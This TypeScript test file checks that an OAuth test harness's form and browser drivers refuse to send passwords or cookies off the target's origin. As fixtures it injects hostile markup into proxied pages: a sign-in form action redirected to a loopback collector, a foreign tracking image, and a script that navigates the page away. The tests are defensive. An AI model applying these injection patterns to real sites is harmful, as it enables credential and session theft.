/**
 * Credentials stay on the target's origin, where a driver plays the user (issue 19, item 1): a
 * proxy in front of the simulator points the sign-in form's action at a collector on another
 * loopback port, or adds an image from that port to every page. Neither the form driver nor the
 * browser driver may send it anything (no password, no cookie); the driver reports the form it
 * could not submit as the harness's trouble (the check is errored, no rule of the provider is
 * blamed). An origin the config trusts is followed: the guard is not "refuse everything".
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createSimulator } from '../../simulator/core.js';
import { serve, type Served } from '../../simulator/adapters/node.js';
import { targetConfig } from '../../simulator/control/config.js';
import { createHttpTarget } from '../../suites/target/http.js';
import { createHttp, createRecorder } from '../../suites/runner/http.js';
import { createRedactor } from '../../suites/runner/redact.js';
import { createOAuthFlows } from '../../suites/runner/oauth.js';
import { createRandom } from '../../suites/runner/random.js';
import { createFormDriver } from '../../suites/drivers/form.js';
import { createBrowserDriver, DEFAULT_CHROMIUM } from '../../suites/drivers/browser.js';
import { HarnessError } from '../../suites/runner/errors.js';
import type { Driver, TargetConfig } from '../../suites/types.js';
import type { Report } from '../../suites/report/model.js';
import { runCli } from '../suites/loopback.js';
import { startCollector, startProxy, type Collector } from './collector.js';

const CHROMIUM = process.env.IDP_CHROMIUM ?? DEFAULT_CHROMIUM;
const dir = mkdtempSync(join(tmpdir(), 'idp-hostile-forms-'));
let served: Served;
let proxy: Awaited<ReturnType<typeof startProxy>>;
let collector: Collector;
let config: TargetConfig;
/** What the proxy does to the provider's pages. */
let mode: 'sign-in elsewhere' | 'image elsewhere' | 'leaves at once' = 'sign-in elsewhere';

beforeAll(async () => {
  const sim = createSimulator({});
  served = await serve(sim);
  proxy = await startProxy(served.url, (_req, answer) => {
    const html = answer.headers.some(([n, v]) => /^content-type$/i.test(n) && /html/i.test(v));
    if (!html) return answer;
    let text = answer.body.toString('utf8');
    if (mode === 'sign-in elsewhere')
      text = text.replace('action="/users/sign_in"', `action="${collector.url}/users/sign_in"`);
    else if (mode === 'image elsewhere')
      text = text.replace('</form>', `</form><img src="${collector.url}/pixel.png" alt="">`);
    // A page that sends the browser elsewhere as it loads, before there is anything to press.
    else text = text.replace('<main', `<script>location.href = '${collector.url}/welcome';</script><main`);
    // A hostile provider sends no Content-Security-Policy that would stop its own page.
    const headers = answer.headers.filter(([n]) => !/^content-security-policy$/i.test(n));
    return { ...answer, headers, body: Buffer.from(text) };
  });
  // The collector plays a sign-in host of the provider: it answers as the simulator does.
  collector = await startCollector((req, res, body) => proxy.handle(req, res, body));
  sim.options.controlHosts = [served.url, proxy.url, collector.url].map((u) => new URL(u).host);
  config = targetConfig(sim, proxy.url);
});

afterAll(async () => {
  await collector?.close();
  await proxy?.close();
  await served?.close();
});

function flowsWith(driverOf: (http: ReturnType<typeof createHttp>, c: TargetConfig) => Promise<Driver> | Driver) {
  return async (overrides: Partial<TargetConfig> = {}) => {
    const c = { ...config, ...overrides };
    const http = createHttp(createHttpTarget(c), createRecorder(20), createRedactor());
    const driver = await driverOf(http, c);
    return { driver, flows: createOAuthFlows(http, driver, c, createRedactor(), createRandom(19)) };
  };
}

describe('form driver: a sign-in form whose action leaves the target', () => {
  const open = flowsWith((http, c) => createFormDriver(http, { ...c, driver: { kind: 'form' } }));

  it('is not submitted: the collector gets no password, and the driver says why (HarnessError)', async () => {
    mode = 'sign-in elsewhere';
    collector.received.length = 0;
    const { driver, flows } = await open();
    const outcome = driver.authorize(flows.authorizeUrl('confidential', { state: 'off' }), 'approve');
    await expect(outcome).rejects.toBeInstanceOf(HarnessError);
    await expect(outcome).rejects.toThrow(/^the sign-in form's action leaves the target's origin .* nothing was sent/);
    expect(collector.received).toEqual([]);
  });

  it('is submitted when the config trusts that origin (a separate sign-in host), and the flow ends with a code', async () => {
    mode = 'sign-in elsewhere';
    collector.received.length = 0;
    const { driver, flows } = await open({ trustedOrigins: [collector.url] });
    const { redirect } = await driver.authorize(flows.authorizeUrl('confidential', { state: 'on' }), 'approve');
    expect(redirect?.searchParams.get('code')).toBeTruthy();
    expect(collector.received.map((r) => `${r.method} ${r.path.split('?')[0]}`)).toContain('POST /users/sign_in');
  });

  it('in a run, the check that needed the sign-in is errored (the harness could not play the page), never failed', async () => {
    mode = 'sign-in elsewhere';
    collector.received.length = 0;
    const file = join(dir, 'target-form.json');
    writeFileSync(file, JSON.stringify({ ...config, driver: { kind: 'form' } }));
    const report = join(dir, 'form.json');
    await runCli({ config: file, check: 'grants.code-single-use', seed: '19', report: `json=${report}` });
    const [check] = (JSON.parse(readFileSync(report, 'utf8')) as Report).checks;
    expect(check.status).toBe('errored');
    expect(check.message).toMatch(/the sign-in form's action leaves the target's origin/);
    expect(collector.received).toEqual([]);
  }, 120_000);
});

describe.skipIf(!existsSync(CHROMIUM))('browser driver: pages that send the browser elsewhere', () => {
  const open = flowsWith((http, c) => createBrowserDriver(http, { ...c, driver: { kind: 'browser' } }));
  let driver: Driver | undefined;
  afterAll(async () => driver?.close?.());

  it('a sign-in form posting to another origin is not submitted: no password there, the driver says why', async () => {
    mode = 'sign-in elsewhere';
    collector.received.length = 0;
    const opened = await open();
    driver = opened.driver;
    const outcome = driver.authorize(opened.flows.authorizeUrl('confidential', { state: 'off' }), 'approve');
    await expect(outcome).rejects.toBeInstanceOf(HarnessError);
    await expect(outcome).rejects.toThrow(
      /sent the browser to http:\/\/127\.0\.0\.1:\d+\/users\/sign_in, which leaves/,
    );
    expect(collector.received).toEqual([]);
  }, 120_000);

  it('a page that leaves as it loads is said at once as leaving, not waited on as unresponsive', async () => {
    mode = 'leaves at once';
    collector.received.length = 0;
    // The page's time limit far past the test's: the visit must end on the stray navigation, not on
    // that limit (the navigation stopped never finishes, so the page never looks quiet); before, it
    // ran two page limits long and this test ran out of time.
    const http = createHttp(createHttpTarget(config), createRecorder(20), createRedactor());
    const leaving = await createBrowserDriver(
      http,
      { ...config, driver: { kind: 'browser' } },
      { pageTimeoutMs: 300_000 },
    );
    try {
      const flows = createOAuthFlows(http, leaving, config, createRedactor(), createRandom(19));
      const outcome = leaving.authorize(flows.authorizeUrl('confidential', { state: 'away' }), 'approve');
      await expect(outcome).rejects.toThrow(/sent the browser to http:\/\/127\.0\.0\.1:\d+\/welcome, which leaves/);
      expect(collector.received).toEqual([]);
    } finally {
      await leaving.close?.();
    }
  }, 30_000);

  it('an image from another origin on the provider pages is never fetched (it would carry the session cookie)', async () => {
    mode = 'image elsewhere';
    collector.received.length = 0;
    const opened = await open();
    await driver?.close?.();
    driver = opened.driver;
    const { redirect } = await driver.authorize(opened.flows.authorizeUrl('confidential', { state: 'img' }), 'approve');
    expect(redirect?.searchParams.get('code')).toBeTruthy();
    expect(collector.received).toEqual([]);
  }, 120_000);
});
